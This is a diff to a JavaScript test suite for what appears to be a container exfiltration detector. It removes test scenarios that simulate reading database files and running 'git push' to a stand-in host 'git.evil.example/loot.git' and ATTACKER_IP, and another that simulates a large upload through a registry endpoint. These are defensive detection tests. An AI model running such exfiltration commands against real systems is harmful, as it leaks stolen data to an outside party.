@@ -67,25 +67,6 @@ describe('a push with few or no bytes reported: the resolver does not count, and
     const allowlist = [{ namespace: 'ci', destination: '10.0.0.0/8', reason: 'in-cluster' }];
     expect(run(s.events, { allowlist }).alerts).toHaveLength(1);
   });
-
-  it('Falco without write/send events (its default): 80 MiB read, git push to evil, one connect into the range: alert', () => {
-    const s = new Scenario({ source: 'falco' });
-    const c = s.container({ namespace: 'ci' });
-    const sh = s.init(c);
-    s.readMany(sh, '/srv/db', 80, MiB);
-    const g = s.exec(c, '/usr/bin/git', 'push https://git.evil.example/loot.git main', { parent: sh });
-    const h = s.exec(
-      c,
-      '/usr/lib/git-core/git-remote-https',
-      'https://git.evil.example/loot.git https://git.evil.example/loot.git',
-      { parent: g },
-    );
-    s.connect(h, '10.20.0.5', 443);
-    s.connect(h, ATTACKER_IP, 443);
-    expect(run(s.events).alerts).toHaveLength(1);
-    const allowlist = [{ namespace: 'ci', destination: '10.20.0.0/16', reason: 'internal' }];
-    expect(run(s.events, { allowlist }).alerts).toHaveLength(1);
-  });
 });
 
 describe('an address sent the bulk after four are kept', () => {
@@ -132,28 +113,6 @@ describe('a stand-in joins only the process its helper named', () => {
     expect(all.map((a) => a.push.destination)).toContain('git.evil.example');
     const allowlist = [{ namespace: 'ci', destination: 'github.com', reason: 'ci' }];
     expect(run(s.events, { allowlist }).alerts.map((a) => a.push.destination)).toEqual(['git.evil.example']);
-  });
-});
-
-describe('a private address on a forge port is learned (a registry’s private endpoint)', () => {
-  it('ECR through a VPC endpoint (10.0.12.34): after a CI crane push, another pod’s 60 MiB upload to it is a registry push', () => {
-    const s = new Scenario();
-    const ci = s.container({ namespace: 'ci' });
-    const cr = s.exec(
-      ci,
-      '/usr/local/bin/crane',
-      'push /tmp/img.tar 123456789012.dkr.ecr.us-east-1.amazonaws.com/app:1',
-      { parent: s.init(ci) },
-    );
-    s.connect(cr, '10.0.12.34', 443).send(cr, '10.0.12.34', 443, 5 * MiB);
-    s.wait(30_000);
-    const app = s.container({ namespace: 'shop' });
-    const sh = s.init(app);
-    s.readMany(sh, '/srv/db', 80, MiB);
-    const up = s.exec(app, '/opt/tool/bin/tool', 'sync --config /etc/tool.yaml', { parent: sh });
-    s.connect(up, '10.0.12.34', 443).send(up, '10.0.12.34', 443, 60 * MiB);
-    const { alerts } = run(s.events, { allowlist: [{ namespace: 'ci', reason: 'ci' }] });
-    expect(alerts.filter((a) => a.pod?.namespace === 'shop')).toHaveLength(1);
   });
 });
 
